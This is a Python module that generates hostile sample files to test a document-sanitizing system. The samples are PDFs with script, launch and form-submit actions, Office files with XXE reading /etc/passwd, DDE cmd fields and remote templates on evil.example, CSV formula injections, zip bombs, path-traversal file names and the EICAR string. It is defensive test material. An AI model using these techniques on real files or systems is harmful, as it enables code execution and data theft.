"""Files that mean harm, by their families. Each is either refused, or kept without what made it harmful.

`Hostile.payload` is what would do the harm: bytes that nothing kept may hold, however it is packed. Where there is none
(`must_be_refused`), no cleaning could help.
"""

import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from alongside.ground.files.cleaning.unsafe import EICAR
from alongside.ground.files.tests import honest
from alongside.ground.files.tests.honest import R, docx_parts, open_document_parts, package, relations

PAYLOAD = b"HARM-7f3a"
TELL = PAYLOAD.decode()
VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + EICAR + b"-FILE!$H+H*"
SCRIPT = f"<script>alert('{TELL}')</script>"
PROGRAM = b"MZ\x90\x00" + PAYLOAD + b"\x00" * 64


@dataclass(frozen=True)
class Hostile:
    """One file that means harm."""

    family: str
    name: str
    data: bytes
    must_be_refused: bool = True


def pdf_with(change: str, chance: random.Random) -> bytes:
    """A PDF that acts, in one of many ways."""
    with pikepdf.open(io.BytesIO(honest.typeset(chance.choice(honest.WORDS)))) as made:
        script = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{TELL}')"))
        launch = Dictionary(S=Name.Launch, F=String(f"{TELL}.exe"))
        sending = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{TELL}")))
        page, action = made.pages[0], {"launch": launch, "submit": sending}.get(change.partition("-")[0], script)
        indirect = made.make_indirect(action)
        match change.partition("-")[2]:
            case "opening":
                made.Root.OpenAction = indirect
            case "document":
                made.Root.AA = Dictionary(WC=action)
            case "page":
                page.obj.AA = Dictionary(O=indirect)
            case "named":
                made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), indirect])))
            case "link":
                page.obj.Annots = Array([made.make_indirect(Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=indirect))])
            case "next":
                going = Dictionary(S=Name.URI, URI=String("https://example.org"), Next=Array([action]))
                page.obj.Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=going)])
            case "field":
                field = made.make_indirect(
                    Dictionary(Subtype=Name.Widget, FT=Name.Tx, T=String("x"), Rect=[0, 0, 9, 9], AA=Dictionary(K=action))
                )
                made.Root.AcroForm = Dictionary(Fields=Array([field]))
                page.obj.Annots = Array([field])
            case "xfa":
                made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(SCRIPT.encode()))
            case "file":
                inside = made.make_stream(PROGRAM)
                inside.Type = Name.EmbeddedFile
                spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=inside))
                made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])))
            case "pinned":
                inside = made.make_stream(PROGRAM)
                spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=inside))
                page.obj.Annots = Array([Dictionary(Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)])
            case "rich":
                page.obj.Annots = Array([Dictionary(Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], Content=String(TELL))])
            case "scheme":
                bad = Dictionary(S=Name.URI, URI=String(f"javascript:{TELL}"))
                page.obj.Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=bad)])
            case "hidden":
                made.Root.PieceInfo = Dictionary(X=Dictionary(Private=made.make_stream(PROGRAM)))
        out = io.BytesIO()
        made.save(out, object_stream_mode=chance.choice(list(pikepdf.ObjectStreamMode)))
    return out.getvalue()


WAYS = (
    "script-opening script-document script-page script-named script-link script-next script-field script-xfa launch-opening "
    "launch-link submit-link submit-field x-file x-pinned x-rich x-scheme x-hidden"
).split()


def pdfs(chance: random.Random) -> Iterator[Hostile]:
    """PDFs that act, carry, hide or lock."""
    for way in WAYS:
        for turn in range(4):
            yield Hostile("PDF that acts", f"{way} {turn}.pdf", pdf_with(way, chance), must_be_refused=False)
    sound = honest.typeset("Agreement")
    for turn in range(6):
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(sound)) as made:
            made.save(out, encryption=pikepdf.Encryption(owner="a", user="b", R=(4, 6)[turn % 2]))
        yield Hostile("locked PDF", f"locked {turn}.pdf", out.getvalue())
    for turn in range(8):
        yield Hostile("cut short", f"cut {turn}.pdf", sound[: len(sound) * (turn + 1) // 10])
    for turn, behind in enumerate((SCRIPT.encode(), PROGRAM, package({"x.exe": PROGRAM}))):
        yield Hostile("polyglot", f"behind {turn}.pdf", sound + behind, must_be_refused=False)
        yield Hostile("polyglot", f"before {turn}.pdf", behind + sound)
    yield Hostile("HTML called PDF", "page.pdf", b"%PDF-1.7\n" + SCRIPT.encode())
    deep = b"%PDF-1.4\n1 0 obj\n" + b"[" * 5_000 + b"]" * 5_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    yield Hostile("nested too deeply", "deep.pdf", deep)


def chunk(kind: bytes, data: bytes) -> bytes:
    """One piece of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pictures(chance: random.Random) -> Iterator[Hostile]:
    """Pictures that are programs too, floods, and what is no picture."""
    for end, kind in (("png", "PNG"), ("jpg", "JPEG"), ("webp", "WEBP")):
        sound = honest.picture(kind, chance)
        for turn, behind in enumerate((SCRIPT.encode(), PROGRAM, package({"x.exe": PROGRAM}), b"<?php system('HARM-7f3a');")):
            yield Hostile("polyglot", f"behind {turn}.{end}", sound + behind, must_be_refused=False)
            yield Hostile("polyglot", f"before {turn}.{end}", behind + sound)
        for turn in range(4):
            yield Hostile("cut short", f"cut {turn}.{end}", sound[: len(sound) * (turn + 1) // 6])
    comment = Image.new("RGB", (20, 20))
    out = io.BytesIO()
    comment.save(out, "JPEG", comment=SCRIPT.encode())
    yield Hostile("polyglot", "comment.jpg", out.getvalue(), must_be_refused=False)
    for turn, side in enumerate((30_000, 60_000, 20_000, 2**31 - 1)):
        header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
        flood = (
            b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(100_000))) + chunk(b"IEND", b"")
        )
        yield Hostile("pixel flood", f"flood {turn}.png", flood)
    wide = io.BytesIO()
    Image.new("1", (9_000, 9_000)).save(wide, "PNG")
    yield Hostile("pixel flood", "whole flood.png", wide.getvalue())
    text_bomb = honest.picture("PNG", chance)
    bomb = chunk(b"zTXt", b"x\x00\x00" + zlib.compress(bytes(90_000_000)))
    yield Hostile("text bomb", "text bomb.png", text_bomb[:33] + bomb + text_bomb[33:], must_be_refused=False)
    for turn, end in enumerate(("png", "jpg", "webp", "svg", "gif", "html")):
        svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{TELL}">{SCRIPT}</svg>'.encode()
        yield Hostile("SVG with script", f"drawing {turn}.{end}", svg)
        yield Hostile("GIF and script", f"moving {turn}.{end}", b"GIF89a/*" + PAYLOAD + b"*/=1;alert(1)")
    for end in ("png", "webp"):
        first, second = Image.new("RGB", (9, 9), "red"), Image.new("RGB", (9, 9), "blue")
        out = io.BytesIO()
        first.save(out, end.upper(), save_all=True, append_images=[second])
        yield Hostile("moving picture", f"moving.{end}", out.getvalue())


def bomb(name: str, size: int, parts: dict[str, bytes | str]) -> bytes:
    """A package of which one part swells."""
    return package({**parts, name: b" " * size})


def claims(data: bytes, size: int) -> bytes:
    """A package whose table of contents lies about how large its parts become."""
    told = bytearray(data)
    at = told.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", told, at + 24, size)
        at = told.find(b"PK\x01\x02", at + 4)
    return bytes(told)


def office(chance: random.Random) -> Iterator[Hostile]:
    """Office documents with macros, objects, fetched parts, bombs and texts of their own making."""
    sound = docx_parts()
    document = str(sound["word/document.xml"])
    contents = str(sound["[Content_Types].xml"])
    entity = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    laughs = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    changed: list[tuple[str, dict[str, bytes | str]]] = [
        ("macros", {"word/vbaProject.bin": PROGRAM}),
        ("macros", {"word/vbaData.xml": "<x/>"}),
        ("macros", {"[Content_Types].xml": contents.replace("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main")}),
        ("macros", {"[Content_Types].xml": contents.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')}),
        ("macros", {"xl/macrosheets/sheet1.xml": "<x/>"}),
        ("macros", {"word/activeX/activeX1.xml": "<x/>"}),
        ("macros", {"customUI/customUI.xml": "<x/>"}),
        ("objects", {"word/embeddings/oleObject1.bin": PROGRAM}),
        ("objects", {"word/embeddings/x.exe": PROGRAM}),
        ("objects", {"word/media/x.js": SCRIPT}),
        ("objects", {"word/media/x.html": SCRIPT}),
        ("objects", {"word/media/x.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'}),
        ("objects", {"word/media/x.hta": SCRIPT}),
        ("objects", {"word/afchunk.mht": SCRIPT}),
        ("XXE", {"word/document.xml": document.replace("<w:document", entity + "<w:document", 1)}),
        ("XXE", {"word/document.xml": document.replace("UTF-8", "UTF-16").replace("<w:document", entity + "<w:document", 1).encode("utf-16")}),
        ("XXE", {"docProps/core.xml": honest.CORE.replace("<cp:core", entity + "<cp:core", 1)}),
        ("XXE", {"word/document.xml": document.replace("<w:document", laughs + "<w:document", 1)}),
        ("XXE", {"word/document.xml": document.replace("UTF-8", "UTF-7")}),
        ("XXE", {"_rels/.rels": str(sound["_rels/.rels"]).replace("<Relationships", entity + "<Relationships", 1)}),
        ("broken XML", {"word/document.xml": document[:-20]}),
        ("fields", {"word/document.xml": document.replace("<w:t>", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText><w:t>")}),
        ("fields", {"word/document.xml": document.replace("<w:t>", "<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText><w:t>")}),
        ("fields", {"word/document.xml": document.replace("<w:t>", "<w:instrText>&#68;DEAUTO cmd</w:instrText><w:t>")}),
        ("fields", {"word/document.xml": document.replace("<w:r>", '<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x.png"/><w:r>')}),
        ("fields", {"word/document.xml": document.replace("w:", "q:").replace("xmlns:w", "xmlns:q").replace("<q:t>", "<q:instrText>DDE x</q:instrText><q:t>")}),
        ("fetched", {"xl/externalLinks/externalLink1.xml": "<x/>"}),
        ("fetched", {"xl/connections.xml": "<x/>"}),
        ("fetched", {"xl/queryTables/queryTable1.xml": "<x/>"}),
    ]  # fmt: skip
    for kind, where, mode in (
        ("oleObject", "file:///x.doc", " TargetMode='External'"), ("oleObject", "embeddings/x.bin", ""),
        ("image", "http://evil.example/x.png", ' TargetMode="External"'), ("frame", "http://evil.example/", ' TargetMode="External"'),
        ("image", "http://evil.example/x.png", ""), ("image", "\\\\evil\\x.png", ""), ("subDocument", "http://evil.example/", ' TargetMode="external"'),
        ("control", "activeX.xml", ""), ("aFChunk", "http://evil.example/", ' TargetMode="External"'),
    ):  # fmt: skip
        told = f'Id="rId7" Type="{R}/{kind}" Target="{where}"{mode}'
        changed.append(("fetched", {"word/_rels/document.xml.rels": relations(told)}))
        prefixed = f'<?xml version="1.0"?><p:Relationships xmlns:p="{honest.RELS}"><p:Relationship\n {told}/></p:Relationships>'
        changed.append(("fetched", {"word/_rels/header1.xml.rels": prefixed}))
    template = f'Id="rId1" Type="{R}/attachedTemplate" Target="http://evil.example/{TELL}.dotm" TargetMode="External"'
    yield Hostile("fetched", "template.docx", package({**sound, "word/_rels/settings.xml.rels": relations(template)}), False)
    click = f'Id="rId1" Type="{R}/hyperlink" Target="javascript:{TELL}" TargetMode="External"'
    yield Hostile("fetched", "click.docx", package({**sound, "word/_rels/document.xml.rels": relations(click)}), False)
    for turn, (family, more) in enumerate(changed):
        yield Hostile(family, f"document {turn}.docx", package({**sound, **more}))
    for end, parts in (("docx", sound), ("pptx", honest.pptx_parts()), ("odt", open_document_parts("text", "x"))):
        for turn, (name, size) in enumerate(
            (("word/media/x.png", 120_000_000), ("content2.xml", 60_000_000), ("x.xml", 30_000_000))
        ):
            yield Hostile("zip bomb", f"bomb {turn}.{end}", bomb(name, size, parts))
            yield Hostile("zip bomb", f"quiet bomb {turn}.{end}", claims(bomb(name, size, parts), 10))
        yield Hostile("zip bomb", f"many.{end}", package({**parts, **{f"x{n}.xml": "<x/>" for n in range(5_000)}}))
        whole = package(parts)
        for turn in range(3):
            yield Hostile("cut short", f"cut {turn}.{end}", whole[: len(whole) * (turn + 1) // 4])
        yield Hostile("polyglot", f"before.{end}", PROGRAM + whole)
        yield Hostile("polyglot", f"behind.{end}", whole + PROGRAM, must_be_refused=False)
        for turn, name in enumerate(("../../x.xml", "/etc/x.xml", "a\\..\\x.xml", "C:/x.xml", "word/../../x.xml")):
            yield Hostile("escaping names", f"escape {turn}.{end}", package({**parts, name: "<x/>"}))
        inner = package({"x.exe": PROGRAM})
        yield Hostile("nested zip", f"nested.{end}", package({**parts, "word/media/x.png": inner}))
        yield Hostile(
            "nested zip",
            f"nested 2.{end}",
            package({**parts, "word/embeddings/x.docx": package({**sound, "word/vbaProject.bin": PROGRAM})}),
        )
        deeper = package({**sound, "word/embeddings/y.docx": package({**sound, "word/embeddings/z.docx": package(sound)})})
        yield Hostile("nested zip", f"nested 3.{end}", package({**parts, "word/embeddings/x.docx": deeper}))
        twice = io.BytesIO(whole)
        with zipfile.ZipFile(twice, "a") as made, warnings.catch_warnings():
            warnings.simplefilter("ignore")  # of the name that stands twice: that is the harm
            made.writestr("[Content_Types].xml" if end != "odt" else "content.xml", "<x/>")
        yield Hostile("two parts of one name", f"twice.{end}", twice.getvalue())
    for turn, (name, part) in enumerate(
        (("Basic/Standard/x.xml", "<x/>"), ("Scripts/python/x.py", TELL), ("Object 1", PROGRAM), ("x.class", PROGRAM))
    ):
        yield Hostile("macros", f"basic {turn}.odt", package({**open_document_parts("text", "x"), name: part}))
    for turn, body in enumerate(
        (
            '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>',
            '<draw:image xlink:href="http://evil.example/x.png"/>', '<draw:image xlink:href="file:///etc/passwd"/>',
            '<draw:object-ole xlink:href="//evil.example/x"/>', '<text:section-source xlink:href="../x.odt"/>',
            '<draw:plugin xlink:href="https://evil.example/x"/>',
        )
    ):  # fmt: skip
        yield Hostile("fetched", f"fetched {turn}.odt", package(open_document_parts("text", "x", body)))
        yield Hostile("fetched", f"fetched {turn}.ods", package(open_document_parts("spreadsheet", "x", body)))
    for end in ("docm", "xlsm", "pptm", "dotm", "doc", "xls", "xlsb"):
        yield Hostile("macros", f"macros.{end}", package({**sound, "word/vbaProject.bin": PROGRAM}))
        yield Hostile("macros", f"old {end}.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + PROGRAM)


def texts() -> Iterator[Hostile]:
    """Pages, programs and orders that call themselves texts."""
    bad = [
        SCRIPT, f"<html><body>{TELL}", f"hello <ScRiPt src=//evil.example/{TELL}>", f"<iframe src={TELL}>", f"<?php echo '{TELL}';",
        f"<svg onload={TELL}>", f'<?xml version="1.0"?><x>{TELL}</x>', f"#!/bin/sh\n{TELL}", f"@echo off\r\n{TELL}",
        f"[InternetShortcut]\r\nURL={TELL}", f"{{\\rtf1 {TELL}", f"<a href='javascript:{TELL}'>", f"{TELL}\x00", f"\x1b]0;{TELL}\x07",
        f"<img src=x onerror={TELL}>", f"<meta http-equiv=refresh content='0;{TELL}'>", f"<% {TELL} %>",
    ]  # fmt: skip
    for turn, words in enumerate(bad):
        for end in ("txt", "csv", "ics"):
            yield Hostile("page or program called text", f"text {turn}.{end}", words.encode())
    orders = [
        "=cmd|'/c calc'!A0", "+cmd|' /C x'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1)*cmd|'/c x'!A0", "-2+3+cmd|' /C x'!A0",
        '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")', '  =DDE("cmd";"/c x";"a")', '"\t=cmd|x!A0"',
    ]  # fmt: skip
    for turn, cell in enumerate(orders):
        for mark in (",", ";"):
            yield Hostile(
                "orders in a table", f"orders {turn}{ord(mark)}.csv", f"School{mark}Fee\r\nOak{mark}{cell}\r\n".encode()
            )
    yield Hostile("text in 16 bits", "wide.txt", SCRIPT.encode("utf-16"))
    yield Hostile("text in 16 bits", "wide.csv", SCRIPT.encode("utf-16-be"))
    for turn, line in enumerate(("ATTACH;VALUE=BINARY:SEFSTQ==", "ACTION:PROCEDURE", "ATTACH:file:///x.exe", "BEGIN:VEVENT")):
        body = f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n{line}\r\n" + ("END:VCALENDAR\r\n" if turn < 3 else "")
        yield Hostile("calendar that carries", f"calendar {turn}.ics", body.encode())


def names(chance: random.Random) -> Iterator[Hostile]:
    """Sound files under names that deceive, and others under a sound name."""
    sound, photo = honest.typeset("Agreement"), honest.picture("PNG", chance)
    deceiving = [
        "fee\u202efdp.exe", "exe.\u202efdp.pdf", "fee.pdf\x00.exe", "fee\x00.pdf", "fee.pdf.exe", "fee.pdf ", "fee", ".pdf.html",
        "fee\u200b.pdf", "fee\r\nX: y.pdf", "fee.pdf\u2066", "fee.p\u0000df", "\x1b[31mfee.pdf", "fee.svg", "fee.pdf.js", "fee.lnk",
    ]  # fmt: skip
    escaping = [
        "../../etc/cron.d/fee.pdf", "..\\..\\fee.pdf", "/etc/fee.pdf", "C:\\x\\fee.pdf", "....//fee.pdf", "con.pdf", ".htaccess.pdf",
        "a" * 300 + ".pdf", "<script>.pdf", "fee;rm -rf.pdf", 'fee".pdf', "fee%2f..%2f.pdf",
    ]  # fmt: skip
    for name in deceiving:
        yield Hostile("deceiving name", name, sound, must_be_refused=name != "fee.pdf ")
    for name in escaping:
        yield Hostile("escaping names", name, sound, must_be_refused=False)
    for end in ("png", "jpg", "docx", "xlsx", "odt", "csv", "txt", "ics", "webp"):
        yield Hostile("wrong end", f"fee.{end}", sound if end != "webp" else photo)
        yield Hostile("program", f"program.{end}", PROGRAM)
        yield Hostile("virus", f"virus.{end}", VIRUS)
    yield Hostile("program", "program.pdf", PROGRAM)
    yield Hostile("virus", "virus.pdf", sound + VIRUS)
    yield Hostile("virus", "virus 2.docx", package({**docx_parts(), "word/media/x.png": VIRUS}))
    yield Hostile("virus", "virus 3.txt", b"hello " + VIRUS)
    for end in ("pdf", "png", "docx", "txt"):
        yield Hostile("null bytes", f"nothing.{end}", bytes(1_000))


def files() -> list[Hostile]:
    """All of them."""
    chance = random.Random(19)
    return [*pdfs(chance), *pictures(chance), *office(chance), *texts(), *names(chance)]
